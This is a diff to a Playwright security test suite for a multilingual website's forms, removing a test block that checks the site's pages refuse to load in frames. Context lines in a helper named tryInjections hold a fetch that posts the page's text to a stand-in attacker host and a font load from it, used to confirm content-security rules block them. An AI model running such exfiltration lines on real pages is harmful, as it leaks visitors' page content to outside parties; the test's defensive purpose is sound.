@@ -1,9 +1,7 @@
 import type { Page } from '@playwright/test';
-import type { Language } from '../../domain/languages.ts';
-import { pages, pathTo } from '../../domain/pages.ts';
-import { partnershipFramePath } from '../../domain/service-pages.ts';
+import { pathTo } from '../../domain/pages.ts';
 import { startOtherSite } from '../other-origin.ts';
-import { contact, fillForm, formOn, partnership } from '../posted-forms.ts';
+import { contact, fillForm, formOn } from '../posted-forms.ts';
 import { expectMessage, fillAtOnce, referral, submitButton } from '../referral-form.ts';
 import { expect, startSite, test } from '../site.ts';
 
@@ -83,57 +81,6 @@ function tryInjections() {
   fetch('https://evil.example/', { method: 'POST', body: document.body.textContent }).catch(() => {});
   new FontFace('evil', 'url(https://evil.example/y.woff2)').load().catch(() => {});
 }
-
-test.describe('A frame', () => {
-  /** The address that a frame shows: the requested one, or the browser's error page when it is blocked. */
-  const frameIn = async (page: Page, address: string) => {
-    await page.evaluate((src) => {
-      const frame = Object.assign(document.createElement('iframe'), { src, name: 'tried' });
-      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
-      document.body.append(frame);
-      return loaded;
-    }, address);
-    const shown = await (await page.locator('iframe[name=tried]').elementHandle())?.contentFrame();
-    // The browser's error page gets its address a moment after the frame has loaded.
-    await expect.poll(() => shown?.url()).not.toBe('');
-    const url = shown?.url();
-    await page.evaluate(() => document.querySelector('iframe[name=tried]')?.remove());
-    return url;
-  };
-  const blocked = 'chrome-error://chromewebdata/';
-  const framed = (language: Language) => [
-    `/${language}${partnershipFramePath}`,
-    `/${language}/answers/partnerships-saved`,
-    `/${language}/answers/too-many`,
-  ];
-
-  test('on another site shows no page of ours, not even the partnership form', async ({ page, site }) => {
-    const otherSite = await startOtherSite('<h1>Elsewhere</h1>');
-    try {
-      await page.goto(otherSite.url);
-      for (const path of [
-        ...pages.map(({ id }) => pathTo(id, 'en')),
-        ...framed('en'),
-        ...framed('zh'),
-        '/en/nowhere',
-      ]) {
-        expect([path, await frameIn(page, site.url + path)]).toEqual([path, blocked]);
-      }
-      expect(await frameIn(page, `${otherSite.url}/itself`)).toBe(`${otherSite.url}/itself`);
-    } finally {
-      otherSite.stop();
-    }
-  });
-
-  test('on our own site shows the partnership form and its responses, and no other page', async ({ page, site }) => {
-    await page.goto('/en/form');
-    await expect(page.frameLocator('iframe').getByRole('form', { name: partnership.words.en.title })).toBeVisible();
-    for (const path of [...framed('en'), ...framed('zh')]) expect(await frameIn(page, path)).toBe(site.url + path);
-    for (const path of ['/en', '/zh/referral', '/en/answers/referrals-saved', '/en/nowhere', '/healthz']) {
-      expect([path, await frameIn(page, path)]).toEqual([path, blocked]);
-    }
-  });
-});
 
 test('Another site can store nothing, neither with forms nor with fetch', async ({ page }) => {
   const site = await startSite();
